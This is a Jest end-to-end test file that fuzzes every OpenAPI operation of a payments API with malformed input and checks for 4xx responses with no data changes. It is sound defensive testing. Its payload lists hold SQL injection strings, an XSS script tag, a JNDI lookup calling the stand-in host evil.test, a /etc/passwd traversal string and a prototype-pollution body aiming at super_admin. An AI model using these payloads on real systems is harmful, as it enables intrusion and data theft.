import { DEMO_APP } from '@wavu/daraja-sim';
import type { Sandbox } from '@wavu/sandbox';
import { startSandbox } from '@wavu/sandbox';
import { PaymentSettingsService } from '../../../apps/api/src/modules/payments/payment-settings.service';
import type { ProviderFixture, Session } from '../../factories';
import { changedTables, createProvider, createSuperAdmin, fingerprintOf } from '../../factories';
import type { TestApp } from '../../setup/test-app';
import { startTestApp } from '../../setup/test-app';
import type { Operation, Schema } from '../../setup/openapi-ops';
import { fillPath, operations, pathParams, resolve } from '../../setup/openapi-ops';

// each generated case sends up to a hundred requests: on a loaded 2-core machine that can take longer than jest's 5 s default
jest.setTimeout(60_000);

/**
 * docs/product.md §13 "Malformed input on every endpoint yields a 4xx, never a 5xx, and changes nothing",
 * second generated sweep (test/e2e/malformed-input.e2e-spec.ts covers wrong types, extra
 * fields, oversized, invalid JSON, 413, bad UUIDs, bad query values). This one sends, to every
 * operation of openapi.json (public ones included: Daraja webhooks with the provider's real
 * secret, Pesapal IPN/callback): required fields missing one at a time, unicode / emoji / RTL /
 * NUL bytes, injection strings, huge / negative / NaN / Infinity numbers, objects where scalars
 * are expected, arrays where objects are expected, and wrong Content-Types.
 *
 * Path ids are well-formed ids that exist nowhere, so a body that passes validation reaches the
 * lookup and ends in 404; what may legitimately change is listed in ALLOWED_CHANGES.
 */
const MISSING_ID = '00000000-0000-4000-8000-00000000abcd';

const STRINGS: [string, string][] = [
  ['unicode', 'Ñairobi — Mtaa wa Kwanza ✓ ñ ü ß 漢字'],
  ['emoji', '📶💸🔥👨‍👩‍👧'],
  ['rtl', '\u202Eطوبى\u202C مرحبا'],
  ['nul byte', 'abc\u0000def'],
  ['control chars', '\u0001\u0007\u001b[31m\r\n'],
  ['sql', "' OR 1=1--"],
  ['sql2', "'; DROP TABLE vouchers; --"],
  ['html', '<script>alert(1)</script>'],
  ['jndi', '${jndi:ldap://evil.test/a}'],
  ['path', '../../etc/passwd'],
  ['lone surrogate', 'x\uD800y'],
];
const NUMBERS: [string, unknown][] = [
  ['huge', 1e308],
  ['beyond int64', 9223372036854775808],
  ['unsafe integer', 2 ** 53 + 1],
  ['negative', -1],
  ['negative huge', -1e308],
  ['fraction', 1.5],
  ['NaN string', 'NaN'],
  ['Infinity string', 'Infinity'],
  ['-Infinity string', '-Infinity'],
  ['exponent string', '1e400'],
  ['hex string', '0x10'],
];

/** What a request may legitimately change, per operation (everything else must stay identical). */
const ALLOWED_CHANGES: [RegExp, string[]][] = [
  // Daraja callbacks are stored raw in webhook_logs before anything else (docs/product.md §6)
  [/\/webhooks\/daraja\//, ['webhook_logs']],
  // failed logins are audited and counted against the account
  [/^POST \/api\/v1\/auth\/login$/, ['audit_logs', 'login_throttles']],
];

describe('malformed input, second sweep (generated from openapi.json)', () => {
  let t: TestApp;
  let sandbox: Sandbox;
  let admin: Session;
  let provider: ProviderFixture;
  let webhookSecret: string;
  const stats = { pollutionAccepted: 0, accepted: 0, requests: 0, operations: new Set<string>(), statuses: {} as Record<string, number> };

  beforeAll(async () => {
    sandbox = await startSandbox({ routers: 1, daraja: { apps: [DEMO_APP] }, pesapal: true });
    t = await startTestApp({ DARAJA_BASE_URL: sandbox.daraja!.url, PESAPAL_BASE_URL: sandbox.pesapal!.url, ROUTER_CALL_TIMEOUT_MS: '500' });
    admin = await createSuperAdmin(t);
    provider = await createProvider(t, admin);
    webhookSecret = (await t.app.get(PaymentSettingsService).webhookBaseFor(provider.providerId)).split('/').pop()!;
  });
  afterAll(async () => {
    await t?.close();
    await sandbox?.stop();
  });

  const authFor = (op: Operation) => (op.path.startsWith('/api/v1/admin') ? admin.auth : op.security ? provider.owner.auth : {});
  const urlOf = (op: Operation) => {
    const values: Record<string, string> = {};
    for (const name of pathParams(op)) values[name] = name === 'secret' ? webhookSecret : name === 'providerId' ? provider.providerId : MISSING_ID;
    return fillPath(op, values);
  };
  const allowed = (op: Operation) => ALLOWED_CHANGES.filter(([re]) => re.test(op.label) || re.test(op.path)).flatMap(([, tables]) => tables);
  const ignore = { api_keys: ['last_used_at'], users: ['last_login_at', 'failed_logins', 'locked_until'] };

  /** Sends, checks "4xx, never 5xx", counts. */
  const send = async (op: Operation, label: string, build: (req: any) => any, options: { accept2xx?: boolean } = {}): Promise<number> => {
    const req = (t.http() as any)[op.method](urlOf(op)).set(authFor(op));
    const res = await build(req);
    stats.requests++;
    stats.statuses[res.status] = (stats.statuses[res.status] ?? 0) + 1;
    if (res.status >= 500 || (res.status < 400 && !options.accept2xx)) throw new Error(`${op.label} ${label}: expected 4xx, got ${res.status} ${(res.text ?? '').slice(0, 300)}`);
    expect(res.body?.requestId ?? res.headers['x-request-id']).toEqual(expect.any(String));
    return res.status;
  };

  /** A plausible value for a schema: the base the mutations start from. */
  const sample = (raw: Schema, name: string): unknown => {
    const s = resolve(raw);
    if (s.enum?.length) return s.enum[0];
    if (s.format === 'uuid') return MISSING_ID;
    switch (s.type) {
      case 'number':
      case 'integer':
        return Math.max(s.minimum ?? 1, 1);
      case 'boolean':
        return true;
      case 'array':
        return s.items ? [sample(s.items, name)] : [];
      case 'object':
        return sampleObject(s);
      default:
        if (/email/i.test(name)) return 'someone@example.test';
        if (/phone|msisdn/i.test(name)) return '0712345678';
        return 'valid';
    }
  };
  const sampleObject = (s: Schema): Record<string, unknown> =>
    Object.fromEntries(
      Object.entries(s.properties ?? {})
        .filter(([n]) => s.required?.includes(n))
        .map(([n, p]) => [n, sample(p, n)]),
    );

  const bodyOps = operations.filter((op) => op.body);

  it.each(bodyOps.map((op) => [op.label, op] as const))('%s: missing fields, hostile strings and numbers, wrong shapes → 4xx, nothing changes', async (label, op) => {
    const before = await fingerprintOf(t.dataSource, { columns: ignore });
    const schema = op.body!;
    const props = schema.properties ?? {};
    const base = sampleObject(schema);

    // phase 1, must all be refused (4xx) and change nothing: missing fields, wrong shapes, wrong Content-Types
    for (const name of schema.required ?? []) {
      const body = { ...base };
      delete body[name];
      await send(op, `without ${name}`, (r) => r.send(body));
    }
    for (const [name, raw] of Object.entries(props)) {
      const prop = resolve(raw);
      if (prop.type !== 'object') await send(op, `${name}={object}`, (r) => r.send({ ...base, [name]: { $gt: '', nested: { deeper: [1] } } }));
      if (prop.type !== 'array') await send(op, `${name}=[array]`, (r) => r.send({ ...base, [name]: [sample(prop, name), sample(prop, name)] }));
      if (prop.type === 'object' || prop.properties) {
        await send(op, `${name}=[array of objects]`, (r) => r.send({ ...base, [name]: [sample(prop, name)] }));
        await send(op, `${name}=scalar`, (r) => r.send({ ...base, [name]: 'scalar' }));
      }
    }
    await send(op, 'body is a string', (r) => r.set('Content-Type', 'application/json').send('"just a string"'));
    await send(op, 'body is null', (r) => r.set('Content-Type', 'application/json').send('null'));
    const json = JSON.stringify(base);
    for (const type of ['text/plain', 'application/xml', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/json; charset=utf-16']) {
      const form = new URLSearchParams(Object.entries(base).map(([k, v]) => [k, String(v)] as [string, string])).toString() || 'field=1';
      const payload = type.startsWith('application/x-www') ? form : type.startsWith('application/xml') ? '<a>1</a>' : json;
      await send(op, `Content-Type ${type}`, (r) => r.set('Content-Type', type).send(payload));
    }
    expect(changedTables(before, await fingerprintOf(t.dataSource, { columns: ignore })).filter((table) => !allowed(op).includes(table))).toEqual([]);

    // phase 2: hostile text and numbers in every field. Never 5xx; a free-text field may accept
    // them (2xx), and when nothing was accepted nothing may have changed
    let accepted = 0;
    for (const [name, raw] of Object.entries(props)) {
      const prop = resolve(raw);
      for (const [kind, value] of STRINGS) if ((await send(op, `${name}=${kind}`, (r) => r.send({ ...base, [name]: value }), { accept2xx: true })) < 400) accepted++;
      if (prop.type === 'number' || prop.type === 'integer')
        for (const [kind, value] of NUMBERS) if ((await send(op, `${name}=${kind}`, (r) => r.send({ ...base, [name]: value }), { accept2xx: true })) < 400) accepted++;
    }
    // prototype-pollution keys: refused, or dropped (class-transformer skips them), never applied
    const pollution = await send(op, '__proto__', (r) => r.set('Content-Type', 'application/json').send(`{"__proto__":{"role":"super_admin"},"constructor":{"prototype":{"polluted":1}}}`), {
      accept2xx: true,
    });
    expect(({} as Record<string, unknown>).role).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    stats.pollutionAccepted += pollution < 400 ? 1 : 0;
    if (!accepted) expect(changedTables(before, await fingerprintOf(t.dataSource, { columns: ignore })).filter((table) => !allowed(op).includes(table))).toEqual([]);
    stats.accepted += accepted;
    stats.operations.add(label);
  });

  const queryOps = operations.filter((op) => op.parameters.some((p) => p.in === 'query'));

  it.each(queryOps.map((op) => [op.label, op] as const))('%s: hostile query values → 4xx or a clean answer, never 5xx', async (label, op) => {
    const before = await fingerprintOf(t.dataSource, { columns: ignore });
    for (const param of op.parameters.filter((p) => p.in === 'query')) {
      const s = resolve(param.schema);
      const values: [string, unknown][] = [...STRINGS, ...NUMBERS.filter(([k]) => k !== 'hex string').map(([k, v]) => [k, String(v)] as [string, unknown])]; // Number('0x10') = 16 is a fine limit
      for (const [kind, value] of values) {
        const http = t.http() as any; // indexed by the documented method
        const req = http[op.method](urlOf(op))
          .set(authFor(op))
          .query({ [param.name]: value });
        const res = await req;
        stats.requests++;
        stats.statuses[res.status] = (stats.statuses[res.status] ?? 0) + 1;
        // a free-text filter may accept any text (2xx, 3xx redirect of the Pesapal return); never 5xx
        if (res.status >= 500) throw new Error(`${label} ${param.name}=${kind}: ${res.status} ${(res.text ?? '').slice(0, 300)}`);
        if (res.status < 400 && !(s.type === 'string' && !s.enum && !s.format))
          throw new Error(`${label} ${param.name} (${s.type}${s.format ? '/' + s.format : ''}${s.enum ? ' enum' : ''})=${kind}: accepted with ${res.status}`);
      }
      // arrays / nested objects in the query string (?a[]=1&a[b]=2)
      const nested = await (t.http() as any)[op.method](`${urlOf(op)}?${param.name}[]=1&${param.name}[x][y]=2`).set(authFor(op));
      stats.requests++;
      if (nested.status >= 500) throw new Error(`${label} ${param.name}[]: ${nested.status} ${(nested.text ?? '').slice(0, 300)}`);
    }
    const changed = changedTables(before, await fingerprintOf(t.dataSource, { columns: ignore })).filter((table) => !allowed(op).includes(table));
    expect(changed).toEqual([]);
    stats.operations.add(label);
  });

  it('swept every operation with a body or a query', () => {
    console.log(
      `malformed input (second sweep): ${stats.operations.size} operations, ${stats.requests} requests (${stats.accepted} hostile values accepted by free-text fields), statuses ${JSON.stringify(stats.statuses)}`,
    );
    expect(stats.operations.size).toBe(new Set([...bodyOps, ...queryOps].map((op) => op.label)).size);
    expect(stats.requests).toBeGreaterThan(2000);
  });
});
